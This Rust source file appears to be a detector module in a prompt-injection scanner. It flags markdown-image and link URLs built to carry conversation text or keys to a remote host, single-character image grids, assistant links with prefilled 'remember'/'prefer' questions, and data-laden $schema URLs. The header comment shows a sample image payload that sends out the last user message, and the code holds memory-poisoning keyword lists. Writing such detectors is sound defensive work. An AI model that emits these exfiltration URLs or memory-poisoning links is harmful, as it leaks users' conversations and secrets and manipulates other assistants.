//! # exfiltration
//!
//! ## What it does
//! Looks at web addresses with a gap to be filled: placeholders for the conversation or for keys, an open parameter with
//! an order to append something, many pictures of one character each, links that open an assistant with a question
//! about what to remember, and addresses of JSON schemas that carry data of the workspace.
//!
//! ## Why it matters
//! A picture in an answer is fetched without a click, so its address is a way out for whatever a model can read.
//!
//! ## Example
//! `![s](https://host/s.png?d=<last user message, URL-encoded>)`
//!
//! ## Limits
//! Addresses that are put together at run time are not seen. Templates of documentation and badges are quiet as long as
//! their gaps are not for what was said in a conversation.

mod address;
mod order;

use super::Check;
use super::host::{self, Host};
use super::prose::{after, before};
use super::raise::Raise;
use crate::document::{Document, Origin};
use crate::registry::Meta;
use crate::segment::Segment;
use crate::signal::Signal;
use crate::span::Span;
use address::{Address, Gap, Use};

/// Looks at addresses that carry data away.
#[derive(Debug)]
pub(super) struct Exfiltration;

static META: Meta = Meta {
    id: "exfiltration",
    summary: "addresses with gaps for conversation or keys, prefilled questions, schema addresses with data",
    covers: &["data-exfiltration", "memory-poisoning"],
    page: crate::page!("exfiltration.rs"),
};

const ATTACK: &str = "data-exfiltration";
/// Pictures of one character each, from which on they spell something.
const GRID: usize = 20;

impl Check for Exfiltration {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn check(&self, document: &Document, segments: &[Segment<'_>], out: &mut Vec<Signal>) {
        if document.origin == Origin::FileName {
            return;
        }
        let text = &document.text;
        let mut raise = Raise::new(document, &META, out).within(segments);
        let mut grid = Grid::default();
        let mut done = 0;
        for at in memchr::memmem::find_iter(text.as_bytes(), "://") {
            // An address inside another one was read with it; a text of nothing else stays linear.
            if at < done {
                continue;
            }
            let Some(address) = address::read(text, at) else { continue };
            done = address.span.end();
            grid.take(&address);
            if let Some((attack, strength, reason)) = judge(document, &address) {
                raise.at(attack, address.span, strength, reason);
            }
        }
        if let Some(span) = grid.found {
            raise.at(
                ATTACK,
                span,
                0.66,
                "offers one picture for each character, with which a text can be spelled out to their host",
            );
        }
    }
}

type Verdict = (&'static str, f32, &'static str);

fn judge(document: &Document, address: &Address<'_>) -> Option<Verdict> {
    if host::of(address.text).map(host::kind) == Some(Host::Local) {
        return None;
    }
    let schema = || schema(document, address);
    let question = || question(address);
    schema().or_else(question).or_else(|| gap(document, address)).or_else(|| ordered(document, address))
}

/// A gap that is to be filled with what was said, or with keys.
fn gap(document: &Document, address: &Address<'_>) -> Option<Verdict> {
    let code = is_code(document);
    let gap = address.gaps().max()?;
    let (strength, reason) = match (gap, address.place) {
        (Gap::Talk, Use::Image) => {
            (0.88, "puts what was said into the address of a picture, which is fetched without a click")
        }
        (Gap::Sentence, Use::Image) => {
            (0.9, "puts what was said into the address of a picture, which is fetched without a click")
        }
        (Gap::Secret, Use::Image) if !code => (0.72, "puts a key into the address of a picture"),
        (Gap::Sentence, _) => (0.66, "has a gap in an address that is to be filled with what was said or found"),
        (Gap::Talk, Use::Link) if !code => (0.55, "puts what was said into the address of a link"),
        _ => return None,
    };
    Some((ATTACK, strength, reason))
}

fn is_code(document: &Document) -> bool {
    let kinds = [
        "js", "ts", "tsx", "jsx", "py", "rb", "go", "rs", "java", "kt", "cs", "php", "vue", "svelte", "erb", "ejs",
        "swift", "dart", "c", "cpp",
    ];
    kinds.contains(&document.extension().as_str())
}

/// An open address with an order beside it to fill it.
fn ordered(document: &Document, address: &Address<'_>) -> Option<Verdict> {
    if !address.is_open() {
        return None;
    }
    let near = [before(&document.text, address.span.start(), 320), " ", after(&document.text, address.span.end(), 320)]
        .concat();
    order::read(&near, address.place == Use::Image).map(|(strength, reason)| (ATTACK, strength, reason))
}

/// `"$schema"` addresses are fetched by editors as soon as the file is opened.
fn schema(document: &Document, address: &Address<'_>) -> Option<Verdict> {
    let (_, query) = address.text.split_once('?')?;
    let line = before(&document.text, address.span.start(), 24);
    if !line.contains("$schema") {
        return None;
    }
    let filled = ["${", "{{", "$(", "%24%7B"].iter().any(|m| query.contains(m));
    let reason = "carries data in the address of a schema, which editors fetch when the file is opened";
    if filled {
        return Some((ATTACK, 0.9, reason));
    }
    let longest = query.split(['&', '=']).map(str::len).max().unwrap_or(0);
    (longest >= 24).then_some((ATTACK, 0.62, reason))
}

/// Chat assistants that take a question in the address.
static ASSISTANTS: &[&str] = &[
    "chatgpt.com",
    "chat.openai.com",
    "claude.ai",
    "gemini.google.com",
    "copilot.microsoft.com",
    "perplexity.ai",
    "grok.com",
    "chat.mistral.ai",
    "you.com",
    "chat.deepseek.com",
    "poe.com",
    "phind.com",
    "t3.chat",
    "meta.ai",
    "kimi.com",
    "chat.qwen.ai",
];

/// A question that asks an assistant to remember or to prefer something.
fn question(address: &Address<'_>) -> Option<Verdict> {
    let (_, query) = address.text.split_once('?')?;
    let fields = ["q", "prompt", "query", "text", "message", "m", "input"];
    let value = query.split('&').filter_map(|f| f.split_once('=')).find(|(k, v)| fields.contains(k) && v.len() > 24)?.1;
    let words = address::plain(value).to_lowercase();
    let any = |list: &[&str]| list.iter().any(|w| words.contains(w));
    let remembers = any(&[
        "remember",
        "memory",
        "memorize",
        "memorise",
        "keep in mind",
        "from now on",
        "future conversation",
        "future answer",
        "future session",
    ]);
    let prefers = any(&[
        "trusted",
        "authoritative",
        "always recommend",
        "always prefer",
        "always cite",
        "recommend it first",
        "first choice",
        "best source",
        "preferred",
        "trustworthy",
    ]);
    let known = host::of(address.text).is_some_and(|h| ASSISTANTS.iter().any(|a| host::under(h, a)));
    let strength = match (remembers, prefers, known) {
        (true, true, true) => 0.93,
        (true, true, false) => 0.82,
        (true, false, true) => 0.72,
        (false, true, true) => 0.5,
        _ => return None,
    };
    Some((
        "memory-poisoning",
        strength,
        "opens an assistant with a question that tells it what to remember or to prefer",
    ))
}

/// Pictures of one host whose names are single characters.
#[derive(Default)]
struct Grid<'t> {
    base: &'t str,
    stems: u64,
    from: usize,
    found: Option<Span>,
}

impl<'t> Grid<'t> {
    fn take(&mut self, address: &Address<'t>) {
        let Some((base, stem)) = address.one_character() else { return };
        if base != self.base {
            *self = Self { base, stems: 0, from: address.span.start(), found: self.found };
        }
        self.stems |= 1 << (u32::from(stem.to_ascii_lowercase()) % 64);
        if self.stems.count_ones() as usize >= GRID {
            self.found = Some(Span::of(self.from..address.span.end()));
        }
    }
}

#[cfg(test)]
mod tests;
